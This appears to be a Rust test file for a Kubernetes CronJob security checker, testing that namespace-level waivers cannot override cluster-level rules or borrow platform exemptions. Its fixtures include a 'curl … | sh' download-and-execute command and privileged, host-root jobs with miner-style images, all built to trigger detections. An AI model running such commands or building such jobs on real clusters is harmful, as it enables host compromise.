//! Trust tiers (SPEC 2.1, 2.2): the cluster tier (ClusterCronJobBaseline)
//! and the namespace tier (CronJobBaseline) are evaluated separately, a
//! CronJob must satisfy both, and a team cannot relax what only the
//! platform may.

mod common;

use common::*;
use cronwarden::api::{Rule, RuleKind, Severity, reasons};
use cronwarden::engine::{Evaluation, Settings};
use serde_json::{Value, json};

/// Every evaluation of this file goes through the agreement check: what
/// Restricted reports as not honoured must be exactly what the evaluation
/// did not honour (SPEC 2.2, one code path).
fn evaluate(objects: &[Value]) -> Evaluation {
    evaluate_with(objects, Settings::default())
}

fn evaluate_with(objects: &[Value], settings: Settings) -> Evaluation {
    let e = common::evaluate_with(objects, settings.clone());
    restricted_agrees_with_findings(objects, &e, settings);
    e
}

/// Strip from the baselines every relaxation that Restricted reports as
/// not honoured: if it really was not honoured, the findings are the same
/// without it (a relaxation reported as refused but honoured, the stacking
/// bug of issue 27, makes a violation appear), and nothing is left to
/// report. A relaxation honoured silently cannot hide here either: the
/// table below asserts, case by case, that a refused relaxation is
/// reported once and a honoured one not at all.
fn restricted_agrees_with_findings(objects: &[Value], e: &Evaluation, settings: Settings) {
    let mut stripped = objects.to_vec();
    let mut any = false;
    for b in &e.baselines {
        for msg in &b.restricted {
            any = true;
            // `KEY[i] (…): waive R is not honoured (…)`
            let (head, rest) = msg.split_once(": ").expect(msg);
            let index: usize = head[head.rfind('[').unwrap() + 1..head.rfind(']').unwrap()]
                .parse()
                .unwrap();
            let what = rest.split(" is not honoured").next().unwrap();
            let obj = stripped
                .iter_mut()
                .find(|o| {
                    let name = o["metadata"]["name"].as_str().unwrap_or("");
                    match o["kind"].as_str() {
                        Some("ClusterCronJobBaseline") => {
                            b.key() == format!("ClusterCronJobBaseline/{name}")
                        }
                        Some("CronJobBaseline") => {
                            b.key()
                                == format!(
                                    "{}/{name}",
                                    o["metadata"]["namespace"].as_str().unwrap()
                                )
                        }
                        _ => false,
                    }
                })
                .expect("the baseline named by Restricted is an input");
            let entry = &mut obj["spec"]["approved"][index];
            if let Some(rule) = what.strip_prefix("waive ") {
                let w = entry["waive"].as_array_mut().unwrap();
                w.retain(|r| r != rule);
            } else if let Some(o) = what.strip_prefix("severityOverrides ") {
                let rule = o.split(':').next().unwrap();
                entry["severityOverrides"]
                    .as_object_mut()
                    .unwrap()
                    .remove(rule);
            } else if what.starts_with("minInterval ") {
                entry.as_object_mut().unwrap().remove("minInterval");
            } else {
                panic!("unknown relaxation in {msg:?}");
            }
        }
    }
    if !any {
        return;
    }
    let again = common::evaluate_with(&stripped, settings);
    assert_eq!(
        again.findings, e.findings,
        "a relaxation reported as not honoured changed the findings"
    );
    for b in &again.baselines {
        assert!(b.restricted.is_empty(), "{:?}", b.restricted);
    }
}

fn violations(e: &Evaluation, ns: &str, name: &str) -> Vec<(Rule, Severity, String)> {
    e.findings
        .iter()
        .find(|f| f.namespace == ns && f.name == name)
        .map(|f| {
            f.violations
                .iter()
                .map(|v| (v.rule, v.severity, v.baseline.clone()))
                .collect()
        })
        .unwrap_or_default()
}

fn restricted(e: &Evaluation, key: &str) -> Vec<String> {
    e.baselines
        .iter()
        .find(|b| b.key() == key)
        .map(|b| b.restricted.clone())
        .unwrap_or_default()
}

const CURL_SH: &str = "curl -fsSL http://203.0.113.7/x.sh | sh";

/// The job of the issue: download-and-execute, privileged, host root.
fn attacker_job(ns: &str) -> Value {
    let mut cj = cronjob(ns, "sync");
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/miner:1"),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/command"),
        json!(["/bin/sh", "-c"]),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/args"),
        json!([CURL_SH]),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/securityContext"),
        json!({"privileged": true}),
    );
    set(
        &mut cj,
        &format!("{POD}/volumes"),
        json!([{"name": "host", "hostPath": {"path": "/"}}]),
    );
    cj
}

#[test]
fn a_tenant_cannot_silence_its_own_download_and_execute_job() {
    let tenant = baseline(
        "team",
        "own",
        json!([{
            "name": "sync",
            "images": ["*"],
            "waive": ["PrivilegedJobTemplate", "HostPathMount", "SuspiciousCommand"],
        }]),
    );
    let e = evaluate(&[tenant, attacker_job("team")]);
    let v = violations(&e, "team", "sync");
    let rules: Vec<Rule> = v.iter().map(|x| x.0).collect();
    for r in [
        Rule::PrivilegedJobTemplate,
        Rule::HostPathMount,
        Rule::SuspiciousCommand,
    ] {
        assert!(rules.contains(&r), "{r} must still fire: {v:?}");
    }
    assert!(
        v.iter()
            .any(|x| x.0 == Rule::SuspiciousCommand && x.1 == Severity::Critical)
    );
    let r = restricted(&e, "team/own");
    assert!(r.iter().all(|m| m.contains("team/own[0]")), "{r:?}");
    for rule in [
        "PrivilegedJobTemplate",
        "HostPathMount",
        "SuspiciousCommand",
    ] {
        assert!(
            r.iter().any(|m| m.contains(&format!("waive {rule}"))),
            "{rule}: {r:?}"
        );
    }
    assert!(
        e.baselines[0].problems.is_empty(),
        "restricted, not rejected: the rest of the baseline works"
    );
}

#[test]
fn a_team_image_wildcard_does_not_lift_the_platform_registry() {
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "images": ["*.corp.example/*"], "requireDigest": true}]),
    );
    let team = baseline("shop", "team", json!([{"name": "sync", "images": ["*"]}]));
    let mut cj = cronjob("shop", "sync");
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/x.corp.example/miner:1"),
    );
    let e = evaluate(&[platform.clone(), team.clone(), cj]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].0, Rule::ImageNotApproved);
    assert_eq!(
        v[0].2, "ClusterCronJobBaseline/platform[0]",
        "names the entry"
    );

    // Without requireDigest too: the registry glob never reaches the path.
    let loose = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "images": ["*.corp.example/*"]}]),
    );
    let mut evil = cronjob("shop", "sync");
    set(
        &mut evil,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/x.corp.example/miner:1"),
    );
    let e = evaluate(&[loose, team.clone(), evil]);
    let f = &e.findings[0];
    assert_eq!(f.rules(), vec![Rule::ImageNotApproved]);
    assert!(
        f.violations[0]
            .message
            .contains("not approved by ClusterCronJobBaseline/platform[0]")
    );

    // Pinned from the corporate registry: both tiers are satisfied.
    let mut ok = cronjob("shop", "sync");
    set(
        &mut ok,
        &format!("{POD}/containers/0/image"),
        json!(format!(
            "registry.corp.example/shop/sync@sha256:{}",
            "a".repeat(64)
        )),
    );
    assert!(violations(&evaluate(&[platform, team, ok]), "shop", "sync").is_empty());
}

#[test]
fn each_tier_must_be_satisfied_and_names_its_entry() {
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let team = baseline(
        "shop",
        "team",
        json!([{"name": "sync", "serviceAccountNames": ["runner"]}]),
    );
    let cj = with(
        cronjob("shop", "sync"),
        "/spec/schedule",
        json!("0 4 * * *"),
    );
    let e = evaluate(&[platform, team, cj]);
    assert_eq!(
        violations(&e, "shop", "sync"),
        vec![
            (
                Rule::ScheduleNotApproved,
                Severity::Medium,
                "ClusterCronJobBaseline/platform[0]".to_owned()
            ),
            (
                Rule::ServiceAccountNotApproved,
                Severity::High,
                "shop/team[0]".to_owned()
            ),
        ]
    );
    let f = &e.findings[0];
    assert_eq!(
        f.baselines,
        vec!["ClusterCronJobBaseline/platform", "shop/team"]
    );
}

#[test]
fn not_in_baseline_is_per_tier_and_ignore_affects_only_its_tier() {
    let platform = cluster_baseline("platform", None, json!([{"name": "other"}]));
    let team = baseline("shop", "team", json!([{"name": "other"}]));
    let cj = cronjob("shop", "sync");
    let e = evaluate(&[platform.clone(), team.clone(), cj.clone()]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(v.len(), 2, "one NotInBaseline per tier: {v:?}");
    assert!(v.iter().all(|x| x.0 == Rule::NotInBaseline));
    assert_eq!(v[0].2, "ClusterCronJobBaseline/platform");
    assert_eq!(v[1].2, "shop/team");

    // The team ignores unapproved CronJobs: the platform still reports.
    let team_ignore = with(team, "/spec/unapproved", json!("Ignore"));
    let e = evaluate(&[platform.clone(), team_ignore, cj.clone()]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(
        v,
        vec![(
            Rule::NotInBaseline,
            Severity::High,
            "ClusterCronJobBaseline/platform".to_owned()
        )]
    );

    // The platform ignores them: the team's tier still reports.
    let platform_ignore = with(platform, "/spec/unapproved", json!("Ignore"));
    let e = evaluate(&[
        platform_ignore,
        baseline("shop", "team", json!([{"name": "other"}])),
        cj,
    ]);
    assert_eq!(violations(&e, "shop", "sync")[0].2, "shop/team");
}

#[test]
fn a_more_specific_entry_of_one_tier_never_replaces_the_other_tier() {
    // The team's exact-name entry approves anything; the platform's pattern
    // entry still applies to the same CronJob.
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "serviceAccountNames": ["runner"]}]),
    );
    let team = baseline("shop", "team", json!([{"name": "sync"}]));
    let e = evaluate(&[platform, team, cronjob("shop", "sync")]);
    let v = violations(&e, "shop", "sync");
    assert_eq!(v.len(), 1);
    assert_eq!(v[0].0, Rule::ServiceAccountNotApproved);
}

#[test]
fn cluster_baselines_govern_the_namespaces_they_select() {
    let platform = cluster_baseline(
        "platform",
        Some(json!({"matchLabels": {"tier": "prod"}})),
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let shop = with(cronjob("shop", "x"), "/spec/schedule", json!("0 4 * * *"));
    let lab = with(cronjob("lab", "x"), "/spec/schedule", json!("0 4 * * *"));
    let e = evaluate(&[
        platform.clone(),
        namespace("shop", json!({"tier": "prod"})),
        namespace("lab", json!({"tier": "dev"})),
        shop.clone(),
        lab.clone(),
    ]);
    assert_eq!(rules(&e, "shop", "x"), vec![Rule::ScheduleNotApproved]);
    assert!(rules(&e, "lab", "x").is_empty());
    let report = e.baselines.iter().find(|b| b.name == "platform").unwrap();
    assert!(report.problems.is_empty());
    assert_eq!(report.governed_namespaces, 1);

    // No selector: every namespace.
    let everywhere = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let e = evaluate(&[everywhere, shop, lab]);
    assert_eq!(rules(&e, "lab", "x"), vec![Rule::ScheduleNotApproved]);
}

#[test]
fn an_invalid_selector_or_entry_is_rejected_and_approves_nothing() {
    let bad_selector = cluster_baseline(
        "broken",
        Some(
            json!({"matchExpressions": [{"key": "tier", "operator": "Sideways", "values": ["x"]}]}),
        ),
        json!([{"namePattern": "*", "waive": ["SuspiciousCommand"]}]),
    );
    let bad_entry = cluster_baseline(
        "typo",
        None,
        json!([
            {"name": "sync", "schedules": ["99 * * * *"], "waive": ["HostPathMount"]},
            {"name": "other"}
        ]),
    );
    let mut cj = attacker_job("shop");
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("registry.example.com/team/app:1.0.0"),
    );
    let e = evaluate(&[bad_selector, bad_entry, cj]);
    let broken = e.baselines.iter().find(|b| b.name == "broken").unwrap();
    assert!(
        broken.problems[0].message.contains("namespaceSelector"),
        "{:?}",
        broken.problems
    );
    assert_eq!(broken.governed_namespaces, 0);
    let typo = e.baselines.iter().find(|b| b.name == "typo").unwrap();
    assert_eq!(typo.problems[0].reason, reasons::INVALID_SCHEDULE);
    assert!(typo.problems[0].message.contains("approved[0]"));
    // Neither the broken baseline's waiver nor the invalid entry's counts:
    // the CronJob is NotInBaseline for the valid rest, and every heuristic fires.
    let r = rules(&e, "shop", "sync");
    for want in [
        Rule::NotInBaseline,
        Rule::HostPathMount,
        Rule::SuspiciousCommand,
    ] {
        assert!(r.contains(&want), "{want}: {r:?}");
    }
}

#[test]
fn sensitive_namespace_is_approved_only_by_the_cluster_tier() {
    let cj = cronjob("kube-system", "etcd-snapshot");
    let local = baseline(
        "kube-system",
        "self",
        json!([{"name": "etcd-snapshot", "waive": ["SensitiveNamespace"]}]),
    );
    let e = evaluate(&[local, cj.clone()]);
    assert_eq!(
        rules(&e, "kube-system", "etcd-snapshot"),
        vec![Rule::SensitiveNamespace]
    );
    assert_eq!(restricted(&e, "kube-system/self").len(), 1);
    let platform = cluster_baseline(
        "platform",
        Some(json!({"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}})),
        json!([{"name": "etcd-snapshot"}]),
    );
    let e = evaluate(&[
        platform,
        namespace(
            "kube-system",
            json!({"kubernetes.io/metadata.name": "kube-system"}),
        ),
        cj,
    ]);
    assert!(rules(&e, "kube-system", "etcd-snapshot").is_empty());
}

#[test]
fn a_team_may_waive_history_erasure_and_poll_every_minute() {
    let mut cj = with(
        cronjob("shop", "poller"),
        "/spec/schedule",
        json!("* * * * *"),
    );
    set(
        &mut cj,
        "/spec/jobTemplate/spec/ttlSecondsAfterFinished",
        json!(10),
    );
    let team = baseline(
        "shop",
        "team",
        json!([{"name": "poller", "minInterval": "1m", "waive": ["HistoryErasure"]}]),
    );
    let e = evaluate(&[team.clone(), cj.clone()]);
    assert!(
        rules(&e, "shop", "poller").is_empty(),
        "{:?}",
        rules(&e, "shop", "poller")
    );
    assert!(restricted(&e, "shop/team").is_empty());

    // Once the platform makes HistoryErasure high, the team's waiver no
    // longer counts, and that is reported.
    let strict = Settings {
        severity_overrides: [(Rule::HistoryErasure, Severity::High)].into(),
        ..Settings::default()
    };
    let e = evaluate_with(&[team.clone(), cj.clone()], strict);
    assert_eq!(rules(&e, "shop", "poller"), vec![Rule::HistoryErasure]);
    assert_eq!(restricted(&e, "shop/team").len(), 1);

    // A cluster entry raising it has the same effect, found per CronJob.
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"namePattern": "*", "severityOverrides": {"HistoryErasure": "high", "HighFrequencySchedule": "high"}}]),
    );
    let e = evaluate(&[platform, team, cj]);
    assert_eq!(
        rules(&e, "shop", "poller"),
        vec![Rule::HighFrequencySchedule, Rule::HistoryErasure]
    );
    let r = restricted(&e, "shop/team");
    assert_eq!(r.len(), 2, "{r:?}");
}

// ------------------------------------------- borrowing the platform's exemptions

/// The platform's baseline of issue 27: a guardrail for every CronJob
/// (corporate registry, pinned), and an exception for the etcd snapshot
/// job that runs the upstream image privileged with the host's root.
fn platform(exception_namespaces: Option<Value>) -> Value {
    let mut exception = json!({
        "name": "etcd-snapshot",
        "images": ["registry.k8s.io/etcd*"],
        "waive": ["HostPathMount", "PrivilegedJobTemplate"],
    });
    if let Some(ns) = exception_namespaces {
        exception["namespaces"] = ns;
    }
    cluster_baseline(
        "platform",
        None,
        json!([
            {"namePattern": "*", "images": ["registry.corp.example/*"], "requireDigest": true},
            exception,
        ]),
    )
}

/// A tenant's CronJob: privileged, hostPID, hostPath `/`, any image.
fn borrower(ns: &str, name: &str, labels: Value) -> Value {
    let mut cj = with(cronjob(ns, name), "/metadata/labels", labels);
    set(
        &mut cj,
        &format!("{POD}/containers/0/image"),
        json!("ghcr.io/evil/tool:1"),
    );
    set(
        &mut cj,
        &format!("{POD}/containers/0/securityContext"),
        json!({"privileged": true}),
    );
    set(&mut cj, &format!("{POD}/hostPID"), json!(true));
    set(
        &mut cj,
        &format!("{POD}/volumes"),
        json!([{"name": "root", "hostPath": {"path": "/"}}]),
    );
    cj
}

fn severities(e: &Evaluation, ns: &str, name: &str) -> Vec<(Rule, Severity)> {
    violations(e, ns, name)
        .into_iter()
        .map(|(r, s, _)| (r, s))
        .collect()
}

#[test]
fn a_tenant_cannot_borrow_an_exemption_by_naming_its_cronjob() {
    // Unscoped exception: a tenant CronJob named like it matches it, but
    // its waivers of high and critical violations are not honoured, and
    // the `*` guardrail still applies its registry and digest.
    let e = evaluate(&[platform(None), borrower("team", "etcd-snapshot", json!({}))]);
    let v = severities(&e, "team", "etcd-snapshot");
    for want in [
        (Rule::ImageNotApproved, Severity::High),
        (Rule::PrivilegedJobTemplate, Severity::High),
        (Rule::HostPathMount, Severity::Critical),
    ] {
        assert!(v.contains(&want), "{want:?}: {v:?}");
    }
    let guard = violations(&e, "team", "etcd-snapshot")
        .into_iter()
        .filter(|x| x.0 == Rule::ImageNotApproved)
        .map(|x| x.2)
        .collect::<Vec<_>>();
    assert_eq!(
        guard,
        vec![
            "ClusterCronJobBaseline/platform[0]".to_owned(),
            "ClusterCronJobBaseline/platform[1]".to_owned()
        ],
        "the approval and the guardrail each name their entry"
    );
    let r = restricted(&e, "ClusterCronJobBaseline/platform");
    assert_eq!(r.len(), 2, "{r:?}");
    assert!(
        r.iter()
            .all(|m| m.contains("platform[1]") && m.contains("namespaces"))
    );

    // Scoped to kube-system: the exception does not exist elsewhere (the
    // tenant's CronJob is judged by the guardrail entry alone) ...
    let scoped = platform(Some(json!(["kube-system"])));
    let e = evaluate(&[scoped.clone(), borrower("team", "etcd-snapshot", json!({}))]);
    let v = severities(&e, "team", "etcd-snapshot");
    for want in [
        (Rule::ImageNotApproved, Severity::High),
        (Rule::PrivilegedJobTemplate, Severity::High),
        (Rule::HostPathMount, Severity::Critical),
    ] {
        assert!(v.contains(&want), "{want:?}: {v:?}");
    }
    assert!(restricted(&e, "ClusterCronJobBaseline/platform").is_empty());

    // ... and where it is meant, it is the whole exception: waivers
    // honoured, the guardrail replaced (the upstream image is fine there).
    let mut real = borrower("kube-system", "etcd-snapshot", json!({}));
    set(
        &mut real,
        &format!("{POD}/containers/0/image"),
        json!("registry.k8s.io/etcd:3.6.5-0"),
    );
    let e = evaluate(&[scoped, real]);
    assert_eq!(
        severities(&e, "kube-system", "etcd-snapshot"),
        vec![],
        "{:?}",
        e.findings
    );
}

#[test]
fn a_tenant_cannot_borrow_by_label_and_stack_its_own_waiver() {
    // A cluster selector entry meant for log shippers lowers HostPathMount
    // to medium; the tenant labels its CronJob to match and waives
    // HostPathMount itself.
    let shippers = |namespaces: Option<Value>| {
        let mut entry = json!({
            "selector": {"matchLabels": {"app": "log-shipper"}},
            "severityOverrides": {"HostPathMount": "medium"},
        });
        if let Some(ns) = namespaces {
            entry["namespaces"] = ns;
        }
        cluster_baseline("platform", None, json!([entry]))
    };
    let tenant = baseline(
        "team",
        "own",
        json!([{"name": "sync", "waive": ["HostPathMount"]}]),
    );
    let labels = json!({"app": "log-shipper"});
    let mut cj = borrower("team", "sync", labels.clone());
    set(
        &mut cj,
        &format!("{POD}/containers/0/securityContext"),
        json!({}),
    );
    set(&mut cj, &format!("{POD}/hostPID"), json!(false));

    // hostPath `/`: critical stays critical, both relaxations reported.
    let e = evaluate(&[shippers(None), tenant.clone(), cj.clone()]);
    assert!(
        severities(&e, "team", "sync").contains(&(Rule::HostPathMount, Severity::Critical)),
        "{:?}",
        e.findings
    );
    assert_eq!(restricted(&e, "team/own").len(), 1);
    assert_eq!(restricted(&e, "ClusterCronJobBaseline/platform").len(), 1);

    // /var/log/app (high) with the entry scoped to the tenant's namespace:
    // the platform's override is honoured (medium), and that lowered
    // severity does not unlock the tenant's waiver.
    let var_log = with(
        cj,
        &format!("{POD}/volumes"),
        json!([{"name": "logs", "hostPath": {"path": "/var/log/app"}}]),
    );
    let e = evaluate(&[
        shippers(Some(json!(["team"]))),
        tenant.clone(),
        var_log.clone(),
    ]);
    assert_eq!(
        severities(&e, "team", "sync"),
        vec![(Rule::HostPathMount, Severity::Medium)]
    );
    assert_eq!(restricted(&e, "team/own").len(), 1);
    assert!(restricted(&e, "ClusterCronJobBaseline/platform").is_empty());

    // Unscoped, the override of a high violation is refused too.
    let e = evaluate(&[shippers(None), tenant, var_log]);
    assert_eq!(
        severities(&e, "team", "sync"),
        vec![(Rule::HostPathMount, Severity::High)]
    );
}

#[test]
fn a_guardrail_raise_is_not_shed_by_matching_a_more_specific_entry() {
    // The platform raises HighFrequencySchedule and ImageNotApproved for
    // everything; a tenant names its CronJob after an unscoped exception
    // and waives HighFrequencySchedule itself.
    let platform = cluster_baseline(
        "platform",
        None,
        json!([
            {"namePattern": "*", "images": ["registry.corp.example/*"],
             "severityOverrides": {"HighFrequencySchedule": "high", "ImageNotApproved": "critical"}},
            {"name": "legacy-exporter", "waive": ["MutableImageReference"]},
        ]),
    );
    let tenant = baseline(
        "team",
        "own",
        json!([{"namePattern": "*", "minInterval": "0s", "waive": ["HighFrequencySchedule"]}]),
    );
    for name in ["poller", "legacy-exporter"] {
        let mut cj = with(cronjob("team", name), "/spec/schedule", json!("* * * * *"));
        set(
            &mut cj,
            &format!("{POD}/containers/0/image"),
            json!("docker.io/evil/x:1"),
        );
        let e = evaluate(&[platform.clone(), tenant.clone(), cj]);
        let v = severities(&e, "team", name);
        assert!(
            v.contains(&(Rule::HighFrequencySchedule, Severity::High)),
            "{name}: {v:?}"
        );
        assert!(
            v.iter()
                .filter(|x| x.0 == Rule::ImageNotApproved)
                .all(|x| x.1 == Severity::Critical),
            "{name}: {v:?}"
        );
        assert_eq!(restricted(&e, "team/own").len(), 2, "{name}");
    }
}

#[test]
fn guardrails_of_less_specific_cluster_entries_keep_applying() {
    let platform = cluster_baseline(
        "platform",
        None,
        json!([
            {"namePattern": "*", "images": ["registry.example.com/*"], "requireDigest": true, "minInterval": "1h"},
            {"selector": {"matchLabels": {"team": "shop"}}, "images": ["registry.example.com/shop/*"]},
            {"name": "sync", "serviceAccountNames": ["default"]},
        ]),
    );
    let cj = with(
        with(
            cronjob("shop", "sync"),
            "/metadata/labels",
            json!({"team": "shop"}),
        ),
        "/spec/schedule",
        json!("*/30 * * * *"),
    );
    let e = evaluate(&[platform.clone(), cj]);
    let v = violations(&e, "shop", "sync");
    // The name entry approves; the pattern's digest and minInterval and the
    // selector's repository still hold.
    assert_eq!(
        v,
        vec![
            (
                Rule::ScheduleNotApproved,
                Severity::Medium,
                "ClusterCronJobBaseline/platform[0]".to_owned()
            ),
            (
                Rule::ImageNotApproved,
                Severity::High,
                "ClusterCronJobBaseline/platform[0]".to_owned()
            ),
            (
                Rule::ImageNotApproved,
                Severity::High,
                "ClusterCronJobBaseline/platform[1]".to_owned()
            ),
        ],
        "{:?}",
        e.findings
    );
    // An unmatched guardrail does nothing; a namespace baseline never
    // adds guardrails to the cluster tier or takes them away.
    let other = with(cronjob("lab", "sync"), "/spec/schedule", json!("0 * * * *"));
    let pinned = with(
        other,
        &format!("{POD}/containers/0/image"),
        json!(format!(
            "registry.example.com/lab/app@sha256:{}",
            "a".repeat(64)
        )),
    );
    let e = evaluate(&[
        platform,
        baseline("lab", "team", json!([{"name": "sync", "images": ["*"]}])),
        pinned,
    ]);
    assert!(violations(&e, "lab", "sync").is_empty(), "{:?}", e.findings);
}

#[test]
fn a_scoped_entry_applies_only_in_its_namespaces_and_required_only_there() {
    let platform = cluster_baseline(
        "platform",
        None,
        json!([{"name": "backup", "required": true, "namespaces": ["db"]}]),
    );
    let e = evaluate(&[
        platform,
        namespace("db", json!({})),
        namespace("web", json!({})),
        cronjob("web", "backup"),
    ]);
    // Missing where it is required; NotInBaseline where it does not apply.
    assert_eq!(
        rules(&e, "db", "backup"),
        vec![Rule::ApprovedCronJobMissing]
    );
    assert_eq!(rules(&e, "web", "backup"), vec![Rule::NotInBaseline]);
}

#[test]
fn a_namespace_baseline_cannot_scope_entries() {
    let team = baseline(
        "shop",
        "team",
        json!([{"name": "sync", "namespaces": ["shop"], "waive": ["HostPathMount"]}]),
    );
    let e = evaluate(&[team, cronjob("shop", "sync")]);
    let report = e.baselines.iter().find(|b| b.key() == "shop/team").unwrap();
    assert_eq!(report.problems.len(), 1, "{:?}", report.problems);
    assert!(report.problems[0].message.contains("namespaces"));
}

#[test]
fn namespaces_offline_carry_the_name_label_the_api_server_sets() {
    // Selected by kubernetes.io/metadata.name, with and without a Namespace
    // object in the input, and with a manifest that tries another value.
    let platform = cluster_baseline(
        "platform",
        Some(json!({"matchLabels": {"kubernetes.io/metadata.name": "payments"}})),
        json!([{"namePattern": "*", "schedules": ["0 2 * * *"]}]),
    );
    let cj = with(
        cronjob("payments", "x"),
        "/spec/schedule",
        json!("0 4 * * *"),
    );
    for extra in [
        vec![],
        vec![namespace("payments", json!({}))],
        vec![namespace(
            "payments",
            json!({"kubernetes.io/metadata.name": "elsewhere"}),
        )],
    ] {
        let mut objects = vec![platform.clone(), cj.clone()];
        objects.extend(extra);
        let e = evaluate(&objects);
        assert_eq!(rules(&e, "payments", "x"), vec![Rule::ScheduleNotApproved]);
    }
}

// ------------------------------------------------------------ the table

/// A CronJob (possibly none) and entry fields that make `rule` fire for
/// the entry named `sync`; None for NotInBaseline, which no entry matches
/// by definition (its tier-level behaviour is tested above).
fn trigger(rule: Rule) -> Option<(&'static str, Option<Value>, Value)> {
    let ns = "apps";
    let cj = cronjob(ns, "sync");
    let at = |p: &str| format!("{POD}/{p}");
    Some(match rule {
        Rule::NotInBaseline => return None,
        // Jobs: no baseline entry matches a Job, so no tier relaxes these
        // (global severity overrides still apply; tests/jobs.rs).
        Rule::ManualJobRun | Rule::ForgedJobLineage => return None,
        // Needs RBAC objects beside the CronJob: tests/power.rs.
        Rule::PowerfulServiceAccount => return None,
        Rule::ScheduleNotApproved => (ns, Some(cj), json!({"schedules": ["0 3 * * *"]})),
        Rule::ImageNotApproved => (
            ns,
            Some(cj),
            json!({"images": ["registry.example.com/other/*"]}),
        ),
        Rule::ServiceAccountNotApproved => {
            (ns, Some(cj), json!({"serviceAccountNames": ["runner"]}))
        }
        Rule::CommandNotApproved => (
            ns,
            Some(cj),
            json!({"commands": [{"container": "main", "command": ["/bin/approved"]}]}),
        ),
        Rule::TemplateDrift => (
            ns,
            Some(cj),
            json!({"templateHash": format!("sha256:{}", "0".repeat(64))}),
        ),
        Rule::DeployPathNotApproved => (
            ns,
            Some(with(
                cj,
                "/metadata/managedFields",
                json!([{"manager": "kubectl-edit", "operation": "Update", "fieldsType": "FieldsV1", "fieldsV1": {"f:spec": {"f:schedule": {}}}}]),
            )),
            json!({"managers": ["argocd-controller"]}),
        ),
        Rule::ApprovedCronJobMissing => (ns, None, json!({"required": true})),
        Rule::HighFrequencySchedule => (
            ns,
            Some(with(cj, "/spec/schedule", json!("*/2 * * * *"))),
            json!({}),
        ),
        Rule::PrivilegedJobTemplate => (
            ns,
            Some(with(
                cj,
                &at("containers/0/securityContext"),
                json!({"privileged": true}),
            )),
            json!({}),
        ),
        Rule::HostPathMount => (
            ns,
            Some(with(
                cj,
                &at("volumes"),
                json!([{"name": "l", "hostPath": {"path": "/var/log/app"}}]),
            )),
            json!({}),
        ),
        Rule::SuspiciousCommand => (
            ns,
            Some(with(
                with(cj, &at("containers/0/command"), json!(["/bin/sh", "-c"])),
                &at("containers/0/args"),
                json!([CURL_SH]),
            )),
            json!({}),
        ),
        Rule::MutableImageReference => (
            ns,
            Some(with(
                cj,
                &at("containers/0/image"),
                json!("registry.example.com/team/app"),
            )),
            json!({}),
        ),
        Rule::UnapprovedRegistry => (
            ns,
            Some(with(
                cj,
                &at("containers/0/image"),
                json!("ghcr.io/x/app:1.0"),
            )),
            json!({}),
        ),
        Rule::SensitiveNamespace => (
            "kube-system",
            Some(cronjob("kube-system", "sync")),
            json!({}),
        ),
        Rule::HistoryErasure => (
            ns,
            Some(with(
                cj,
                "/spec/jobTemplate/spec/ttlSecondsAfterFinished",
                json!(10),
            )),
            json!({}),
        ),
    })
}

/// Which tier's entry relaxes, and how a cluster entry matches the
/// CronJob: `Scoped` entries also name its namespace in `namespaces`.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Tier {
    Namespace,
    Cluster(Match, bool),
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Match {
    Name,
    Pattern,
    Selector,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Relax {
    None,
    Waive,
    Lower,
    Raise,
}

fn settings() -> Settings {
    Settings {
        registry_allowlist: vec!["registry.example.com".into()],
        ..Settings::default()
    }
}

/// The evaluation, the (rule, severity) of the CronJob's violations, and
/// the key of the baseline under test.
type Outcome = (Evaluation, Vec<(Rule, Severity)>, String);

fn run(rule: Rule, tier: Tier, relax: Relax) -> Option<Outcome> {
    let (ns, cj, fields) = trigger(rule)?;
    let matcher = match tier {
        Tier::Namespace | Tier::Cluster(Match::Name, _) => json!({"name": "sync"}),
        // required: name entries only (a CronJob a pattern might match
        // cannot be missing).
        _ if rule == Rule::ApprovedCronJobMissing => return None,
        Tier::Cluster(Match::Pattern, _) => json!({"namePattern": "sy*"}),
        Tier::Cluster(Match::Selector, _) => json!({"selector": {"matchLabels": {"app": "sync"}}}),
    };
    let cj = cj.map(|c| with(c, "/metadata/labels", json!({"app": "sync"})));
    let mut entry = matcher;
    for (k, v) in fields.as_object().unwrap() {
        entry[k] = v.clone();
    }
    if let Tier::Cluster(_, true) = tier {
        entry["namespaces"] = json!([ns]);
    }
    match relax {
        Relax::None => {}
        Relax::Waive => entry["waive"] = json!([rule.as_str()]),
        Relax::Lower => entry["severityOverrides"] = json!({rule.as_str(): "info"}),
        Relax::Raise => entry["severityOverrides"] = json!({rule.as_str(): "critical"}),
    }
    let (b, key) = match tier {
        Tier::Cluster(..) => (
            cluster_baseline("platform", None, json!([entry])),
            "ClusterCronJobBaseline/platform".to_owned(),
        ),
        Tier::Namespace => (baseline(ns, "team", json!([entry])), format!("{ns}/team")),
    };
    let mut objects = vec![b, namespace(ns, json!({}))];
    objects.extend(cj);
    let e = evaluate_with(&objects, settings());
    let v = e
        .findings
        .iter()
        .find(|f| f.namespace == ns && f.name == "sync")
        .map(|f| f.violations.iter().map(|v| (v.rule, v.severity)).collect())
        .unwrap_or_default();
    Some((e, v, key))
}

/// Every rule × {namespace tier, cluster entry matched by name, pattern or
/// selector, with and without `namespaces`} × {waive, lower, raise}
